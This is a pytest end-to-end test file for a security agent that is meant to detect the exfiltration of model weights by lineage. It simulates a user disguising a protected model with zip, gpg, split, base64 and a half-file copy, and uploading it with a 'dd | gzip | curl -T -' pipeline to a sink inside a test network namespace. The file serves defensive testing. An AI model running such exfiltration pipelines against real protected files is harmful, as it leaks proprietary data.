"""Acceptance (issue 14, item 1): lineage is the core detection, not tool names.

The agent runs as the installed service runs it (tests/agent/test_installed_scope.py: `weightwarden agent
--mode system`, root, no HOME, no config file). A user who is not root has a protected model (about 15 MiB,
written by the safetensors library) in ~/models and changes its shape on the way out: zip, gpg, split,
base64, head -c of half, and `dd | gzip -1 | curl -T -` to an HTTP server the test runs in a network
namespace it creates. Each must raise exactly one `model-lineage` alert naming the model, the user and the
output (file path or address:port) within 2 s of the action's end; the matrix of latencies is printed.
Benign work (sha256sum, du, a loop reading the model three times and writing a 1 KB JSON) raises none.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import shutil
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tests.agent.test_installed_scope import InstalledAgent, Person, people  # noqa: F401 - the fixture
from tests.conftest import write_safetensors
from tests.waiting import wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.root]

MODEL = "secret"
ROWS = 40_000  # 3 float32 tensors of ROWS x 32: about 15 MiB
LATENCY_LIMIT = 2.0
MATRIX: list[tuple[str, str, float]] = []

PUT_SERVER = textwrap.dedent("""
    import socket, sys
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((sys.argv[1], int(sys.argv[2]))); server.listen()
    print("listening", flush=True)
    while True:
        conn, _ = server.accept()
        data = b""
        while b"\\r\\n\\r\\n" not in data:
            chunk = conn.recv(65536)
            if not chunk:
                break
            data += chunk
        if b"expect: 100-continue" in data.lower():
            conn.sendall(b"HTTP/1.1 100 Continue\\r\\n\\r\\n")
        head, _, body = data.partition(b"\\r\\n\\r\\n")
        length = next((int(line.split(b":", 1)[1]) for line in head.lower().split(b"\\r\\n")
                       if line.startswith(b"content-length:")), None)
        total, got = len(data), len(body)
        while length is not None and got < length:  # curl -T FILE: a Content-Length upload
            chunk = conn.recv(1 << 20)
            if not chunk:
                break
            got += len(chunk)
            total += len(chunk)
        while length is None and not data.endswith(b"\\r\\n0\\r\\n\\r\\n"):  # curl -T -: chunked
            chunk = conn.recv(1 << 20)
            if not chunk:
                break
            total += len(chunk)
            data = data[-16:] + chunk
        conn.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
        conn.close()
        print(total, flush=True)
""")

READ_THREE_TIMES = textwrap.dedent("""
    import json, sys
    total = 0
    for _ in range(3):
        with open(sys.argv[1], "rb") as handle:
            while block := handle.read(1 << 20):
                total += len(block)
    with open(sys.argv[2], "w") as out:
        json.dump({"bytes": total, "note": "x" * 980}, out)
""")


def ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=10)


@contextlib.contextmanager
def namespace_pair(subnet: str) -> Iterator[tuple[str, str, str]]:
    """A network namespace of its own reached from the host over a veth pair: (its name, the host's address,
    its address), 10.x. Raises NamespaceUnavailable where iproute2 or namespaces are missing."""
    if shutil.which("ip") is None:
        raise NamespaceUnavailable("iproute2 is needed")
    tag = uuid.uuid4().hex[:6]
    namespace, host_end, ns_end = f"ww-l-{tag}", f"wwlh{tag}", f"wwln{tag}"
    made = False
    try:
        try:
            ip("netns", "add", namespace)
            made = True
            ip("link", "add", host_end, "type", "veth", "peer", "name", ns_end, "netns", namespace)
            ip("addr", "add", f"{subnet}.1/24", "dev", host_end)
            ip("link", "set", host_end, "up")
            ip("-n", namespace, "addr", "add", f"{subnet}.2/24", "dev", ns_end)
            ip("-n", namespace, "link", "set", ns_end, "up")
            ip("-n", namespace, "link", "set", "lo", "up")
        except subprocess.CalledProcessError as error:
            raise NamespaceUnavailable(f"cannot create a network namespace here: "
                                       f"{error.stderr.decode().strip()}") from error
        yield namespace, f"{subnet}.1", f"{subnet}.2"
    finally:
        if made:  # deleting the namespace deletes the veth pair (both ends)
            subprocess.run(["ip", "netns", "del", namespace], check=False, capture_output=True)
        subprocess.run(["ip", "link", "del", host_end], check=False, capture_output=True)


@contextlib.contextmanager
def put_server_in_a_namespace(subnet: str = "10.231.44") -> Iterator[tuple[str, int]]:
    """An HTTP PUT sink in a network namespace of its own, reached from the host over a veth pair (10.x).
    Raises NamespaceUnavailable where iproute2, curl or namespaces are missing (tests skip, benchmarks say so)."""
    if shutil.which("curl") is None:
        raise NamespaceUnavailable("curl is needed")
    with namespace_pair(subnet) as (namespace, _, address):
        listener = subprocess.Popen(["ip", "netns", "exec", namespace, sys.executable, "-c", PUT_SERVER,
                                     address, "8080"], stdout=subprocess.PIPE, text=True)
        try:
            assert listener.stdout is not None and listener.stdout.readline().strip() == "listening"
            yield address, 8080
        finally:
            listener.kill()
            listener.wait(timeout=10)
            if listener.stdout is not None:
                listener.stdout.close()


class NamespaceUnavailable(Exception):
    pass


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, int]]:
    try:
        with put_server_in_a_namespace() as address:
            yield address
    except NamespaceUnavailable as why:
        pytest.skip(str(why))


@pytest.fixture(scope="module")
def service(people: tuple[Person, Person], tmp_path_factory: pytest.TempPathFactory  # noqa: F811
            ) -> Iterator[tuple[InstalledAgent, Path]]:
    ana, _ = people
    # bytes of this run's own: other sessions on the machine run this fixture too, and their services would
    # see the same bytes written into another home as a copy of this model (and ours as a copy of theirs)
    model = write_safetensors(ana.home / "models" / MODEL / "model.safetensors", seed=secrets.randbits(32),
                              rows=ROWS)
    for part in [model, *model.parents]:
        if part == ana.home:
            break
        os.chown(part, ana.uid, ana.gid)
    data = tmp_path_factory.mktemp("lineage") / "data"
    agent = InstalledAgent(data)
    try:
        wait_for(lambda: any(str(model) in m.get("paths", []) for m in agent.models()), timeout=120,
                 what="the model in the inventory of the service")
        def marked() -> bool:  # the access sensor reports ana's opens of the model (its mark is in place)
            ana.run("head", "-c", "1", str(model))
            return any(e["event"]["action"] in ("model-opened", "model-read") and (e.get("process") or {}).get(
                "name") == "head" for e in agent.json_lines("events"))

        wait_for(marked, timeout=60, what="the access sensor to mark the model", interval=0.5)
        yield agent, model
    finally:
        assert agent.stop() == 0
        print("\nattack -> model-lineage alert latency (from the action's end)")
        for name, output, seconds in MATRIX:
            print(f"  {name:<34} {output:<46} {seconds * 1000:7.0f} ms")


def lineage_alerts(agent: InstalledAgent) -> list[dict[str, Any]]:
    return [a for a in agent.json_lines("alerts") if a["rule"] == "model-lineage"]


def naming(agent: InstalledAgent, output: str) -> list[dict[str, Any]]:
    """The lineage incidents (latest state) naming `output` (a path or address:port)."""
    found = []
    for alert in lineage_alerts(agent):
        evidence = alert.get("evidence") or {}
        wheres = [o.get("where") for o in evidence.get("outputs", [])]
        if output in wheres or output in (alert.get("paths") or []):
            found.append(alert)
    return found


def expect_one(agent: InstalledAgent, person: Person, name: str, output: str, ended: float) -> dict[str, Any]:
    def theirs() -> list[dict[str, Any]]:  # the service sees the whole machine: other runs upload to 10.x too
        return [a for a in naming(agent, output) if person.name in a["message"]]

    (alert,) = wait_for(theirs, timeout=15, what=f"the lineage alert for {name}")
    latency = datetime.fromisoformat(alert["time"].replace("Z", "+00:00")).timestamp() - ended
    MATRIX.append((name, output.rsplit("/", 1)[-1] if "/" in output else output, latency))
    assert alert["model"] == MODEL, alert
    assert (alert.get("process") or {}).get("user") == person.name or alert["evidence"].get("user") == person.name
    assert person.name in alert["message"]
    assert latency < LATENCY_LIMIT, f"{name}: alert {latency:.2f} s after the action's end"
    assert len(theirs()) == 1
    return alert


def test_reshaped_model_leaving_raises_one_lineage_alert_each(service: tuple[InstalledAgent, Path],
                                                             people: tuple[Person, Person],  # noqa: F811
                                                             server: tuple[str, int]) -> None:
    agent, model = service
    ana, _ = people
    home = ana.home
    relative = str(model.relative_to(home))
    half = model.stat().st_size // 2
    attacks: list[tuple[str, list[str], str]] = [
        ("zip -qr", ["zip", "-qr", "out.zip", f"models/{MODEL}"], str(home / "out.zip")),
        ("gpg --symmetric", ["gpg", "--batch", "--symmetric", "--passphrase", "x", "--pinentry-mode", "loopback",
                             "-o", "blob.gpg", relative], str(home / "blob.gpg")),
        ("split -b 200k", ["split", "-b", "200k", relative, "part_"], str(home / "part_aa")),
        ("base64 > notes.txt", ["sh", "-c", f"base64 {relative} > notes.txt"], str(home / "notes.txt")),
        ("head -c HALF > part.bin", ["sh", "-c", f"head -c {half} {relative} > part.bin"], str(home / "part.bin")),
    ]
    address, port = server
    attacks.append(("dd | gzip -1 | curl -T -",
                    ["sh", "-c", f"dd if={relative} status=none | gzip -1 | curl -sS -T - http://{address}:{port}/p"],
                    f"{address}:{port}"))
    for name, argv, output in attacks:
        ana.run(*argv)
        ended = time.time()
        expect_one(agent, ana, name, output, ended)
    # one incident each, nothing else raised by lineage for her (the service sees the whole machine: other
    # people's runs on it are theirs)
    raised = [a for a in lineage_alerts(agent) if ana.name in a["message"]]
    assert len(raised) == len(attacks), [(a["message"], a["evidence"].get("outputs")) for a in raised]


def test_benign_reads_raise_no_lineage_alert(service: tuple[InstalledAgent, Path],
                                             people: tuple[Person, Person]) -> None:  # noqa: F811
    agent, model = service
    ana, _ = people
    before = {a["id"] for a in lineage_alerts(agent)}
    ana.run("sha256sum", str(model))
    ana.run("du", "-sh", str(model.parent))
    ana.run(sys.executable, "-c", READ_THREE_TIMES, str(model), str(ana.home / "result.json"))
    assert (ana.home / "result.json").stat().st_size < 1100
    # A barrier, not a sleep: a later real leak's alert comes after any decision about the benign reads
    # (decisions are made in order of time once due).
    half = model.stat().st_size // 2
    ana.run("sh", "-c", f"head -c {half} {model} > sentinel.bin")
    ended = time.time()
    expect_one(agent, ana, "sentinel (head -c HALF)", str(ana.home / "sentinel.bin"), ended)
    new = [a for a in lineage_alerts(agent) if a["id"] not in before and ana.name in a["message"]]
    assert [a["evidence"]["outputs"][0]["where"] for a in new] == [str(ana.home / "sentinel.bin")], new
